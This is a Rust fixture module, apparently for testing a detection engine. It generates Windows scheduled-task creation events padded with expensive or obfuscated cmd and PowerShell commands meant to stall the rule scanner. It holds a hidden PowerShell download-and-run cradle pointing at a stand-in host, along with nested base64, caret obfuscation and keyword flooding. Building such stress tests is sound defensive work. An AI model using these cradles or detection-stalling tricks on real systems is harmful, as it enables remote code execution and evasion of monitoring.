//! Records that are short to write and were, or could be, long to read: each makes a reader pass over the same text
//! again and again.
//!
//! All are tasks that any account may create, with definitions of the size that is said beside them.

use crate::formats::base64::encode as base64;
use crate::inputs::samples::{Sample, Shape, escape_xml};

/// A task whose actions are expensive to read.
#[derive(Debug, Clone)]
pub struct Stall {
    /// A few words that name it.
    pub name: &'static str,
    /// Commands with their arguments.
    actions: Vec<(&'static str, String)>,
}

/// An action that every pack alerts on.
pub const ALERT: (&str, &str) = (
    "powershell.exe",
    "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
);

/// The length at which Windows cuts a definition, in UTF-16 units, is a little above this.
pub const BELOW_THE_CUT: usize = 3_347;

impl Stall {
    fn new(name: &'static str, command: &'static str, arguments: impl Into<String>) -> Self {
        Self { name, actions: vec![(command, arguments.into())] }
    }

    /// The task's definition.
    fn content(&self) -> String {
        let actions = self.actions.iter().map(|(command, arguments)| {
            format!(
                "<Exec><Command>{command}</Command><Arguments>{}</Arguments></Exec>",
                escape_xml(arguments)
            )
        });
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Task><Actions>{}</Actions></Task>",
            actions.collect::<String>()
        )
    }

    /// The event that Windows writes when the task is created.
    pub fn record(&self) -> String {
        Sample { content: self.content(), ..Sample::new(4698, "", "") }.record(Shape::Flat)
    }

    /// The same task with [`ALERT`] as its first action.
    pub fn after_alert(mut self) -> Self {
        self.actions.insert(0, (ALERT.0, ALERT.1.into()));
        self
    }

    /// The same task with [`ALERT`] as its last action.
    pub fn before_alert(mut self) -> Self {
        self.actions.push((ALERT.0, ALERT.1.into()));
        self
    }
}

/// A line of cmd: a long variable whose end a loop searches for, `searches` times in each of `commands` commands.
fn search_loop(length: usize, sought: usize, searches: usize, commands: usize) -> String {
    let sought = format!("{}y", "x".repeat(sought));
    let search = format!("!v:*{sought}=!").repeat(searches);
    let command = vec![format!("set w=%n{search}"); commands].join("&");
    format!("/v:on /c \"set v={}y&for /l %n in (1,1,512) do {command}\"", "x".repeat(length))
}

/// Returns each kind once.
pub fn all() -> Vec<Stall> {
    let stall = Stall::new;
    let long = "x".repeat(30_000);
    let search = search_loop(30_000, 20, 14, 4);
    let mut stalls = vec![
        stall("a search in a loop, below the cut", "cmd.exe", search_loop(1_500, 20, 14, 4)),
        stall("a search in a loop, 31 kB", "cmd.exe", search.clone()),
        stall(
            "a replacement in a loop",
            "cmd.exe",
            format!(
                "/v:on /c \"set v={long}&for /l %n in (1,1,512) do {}\"",
                vec!["set w=%n!v:xy=!"; 60].join("&")
            ),
        ),
        stall(
            "a part of a long value in a loop",
            "cmd.exe",
            format!(
                "/v:on /c \"set v={long}&for /l %n in (1,1,512) do {}\"",
                "!v:~%n,1!!v:~-%n,1!".repeat(60)
            ),
        ),
        stall(
            "a variable that is set from itself in a loop",
            "cmd.exe",
            format!("/v:on /c \"set v={long}&for /l %n in (1,1,512) do set v=!v:~1!x&set w=!v:x=!\""),
        ),
        stall(
            "loops in loops",
            "cmd.exe",
            format!(
                "/v:on /c \"set v={long}&{} set w=!v:*xy=!\"",
                ["a", "b", "c", "d"].map(|name| format!("for /l %{name} in (1,1,512) do")).join(" ")
            ),
        ),
        stall(
            "a search beside a search, without a loop",
            "cmd.exe",
            format!("/v:on /c \"set v={long}&echo {}\"", "!v:*xxxxxxxxy=!".repeat(2_000)),
        ),
        stall(
            "a search in cmd in cmd",
            "cmd.exe",
            format!("/c cmd /c cmd /c cmd {}", search_loop(20_000, 20, 14, 4)),
        ),
        stall(
            "thousands of variables",
            "cmd.exe",
            format!(
                "/v:on /c \"{}echo {}\"",
                (0..2_000).map(|n| format!("set v{n}=x&")).collect::<String>(),
                (0..2_000).map(|n| format!("!v{n}!")).collect::<String>()
            ),
        ),
        stall("250,000 commands", "cmd.exe", format!("/c {}", "&".repeat(250_000))),
        stall(
            "a long text replaced again and again",
            "powershell.exe",
            format!("-c $x='{long}'{}", ".Replace('xxxxxxxxy','')".repeat(1_500)),
        ),
        stall(
            "30,000 parentheses",
            "powershell.exe",
            format!("-c {}'a'{}", "(".repeat(15_000), ")".repeat(15_000)),
        ),
        stall(
            "powershell in powershell",
            "powershell.exe",
            format!("-c {}x", "powershell -c ".repeat(4_500)),
        ),
        stall(
            "a script in base64 in a script",
            "powershell.exe",
            (0..12).fold("-c x".to_owned(), |inner, _| {
                let units: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
                if units.len() > 60_000 { inner } else { format!("-enc {}", base64(&units)) }
            }),
        ),
        stall(
            "the words that rules look for, repeated",
            "powershell.exe",
            format!("-c {}", "iex downloadstring frombase64string -enc hidden ".repeat(1_300)),
        ),
        stall("a long path", "cmd.exe", format!("/c {}", "C:\\a\\..\\".repeat(8_000))),
        stall("quotes and carets", "cmd.exe", format!("/c {}", "^\"^p\"o\"^w^e^r".repeat(5_000))),
    ];
    stalls.push(Stall { name: "four such actions, 130 kB", actions: vec![("cmd.exe", search); 4] });
    stalls.push(Stall {
        name: "32 actions with the words that rules look for",
        actions: vec![
            ("powershell.exe", format!("-c {}", "iex (iwr http://a.example/x);".repeat(2_000)));
            32
        ],
    });
    stalls
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_first_is_one_that_windows_does_not_cut() {
        let stalls = all();
        let first = stalls.first().map(|stall| stall.content().encode_utf16().count());
        assert!(first.is_some_and(|units| units <= BELOW_THE_CUT), "{first:?}");
        assert!(stalls.iter().any(|stall| stall.record().len() > 1 << 20));
    }
}
